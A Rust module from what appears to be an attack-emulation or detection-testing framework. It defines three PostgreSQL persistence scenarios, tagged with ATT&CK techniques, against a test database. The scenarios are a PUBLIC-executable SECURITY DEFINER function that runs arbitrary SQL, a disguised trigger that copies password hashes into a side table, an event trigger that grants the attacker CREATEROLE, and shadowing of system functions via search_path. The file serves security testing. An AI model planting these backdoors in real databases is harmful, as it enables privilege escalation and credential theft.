//! Attacks that come back: code left behind that runs with somebody else's rights.

use crate::error::Result;
use crate::scenario::{Scenario, Stage};

pub(super) fn all() -> Vec<Scenario> {
    vec![
        Scenario::attack(
            "definer_backdoor",
            "a SECURITY DEFINER function that executes any text, and a trigger that calls it",
            definer_backdoor,
        )
        .technique(&["T1505.001", "T1546"])
        .role("eve_definer", "SUPERUSER")
        .own_shop(),
        Scenario::attack(
            "event_trigger",
            "an event trigger gives the attacker's role new rights on every definition",
            event_trigger,
        )
        .technique(&["T1505.001", "T1546"])
        .role("eve_event", "SUPERUSER")
        .own_shop(),
        Scenario::attack(
            "function_shadowing",
            "functions of the system's names are put into public for others to call",
            shadowing,
        )
        .technique(&["T1505.001", "T1574"])
        .role("eve_shadowing", "")
        .own_shop(),
    ]
}

fn definer_backdoor(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        "CREATE OR REPLACE FUNCTION public.refresh_cache(q text) RETURNS void \
         LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN EXECUTE q; END $$",
        "GRANT EXECUTE ON FUNCTION public.refresh_cache(text) TO PUBLIC",
        "CREATE FUNCTION public.on_login_change() RETURNS trigger LANGUAGE plpgsql \
         SECURITY DEFINER AS $$ BEGIN \
         INSERT INTO public.kept VALUES (NEW.person_id, NEW.password_hash); \
         PERFORM public.refresh_cache('SELECT 1'); RETURN NEW; END $$",
        "CREATE TABLE public.kept (person_id int, value text)",
        "CREATE TRIGGER audit_login BEFORE UPDATE ON person.login \
         FOR EACH ROW EXECUTE FUNCTION public.on_login_change()",
        "UPDATE person.login SET password_hash = md5('example') WHERE person_id = 5",
        "SELECT * FROM public.kept",
    ])
}

fn event_trigger(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        "CREATE FUNCTION public.on_definition() RETURNS event_trigger LANGUAGE plpgsql \
         SECURITY DEFINER AS $$ BEGIN EXECUTE 'ALTER ROLE eve_event CREATEROLE'; END $$",
        "CREATE EVENT TRIGGER keep_rights ON ddl_command_end WHEN TAG IN ('CREATE TABLE') \
         EXECUTE FUNCTION public.on_definition()",
        "CREATE TABLE public.bait (id int)",
        "ALTER EVENT TRIGGER keep_rights ENABLE ALWAYS",
    ])
}

fn shadowing(stage: &Stage<'_>) -> Result<()> {
    stage.connect()?.run_each([
        "CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE sql \
         AS $$ SELECT pg_catalog.upper($1) $$",
        "CREATE FUNCTION public.md5(varchar) RETURNS text LANGUAGE sql AS $$ SELECT 'example' $$",
        "ALTER ROLE eve_shadowing SET search_path = public, pg_catalog",
    ])
}
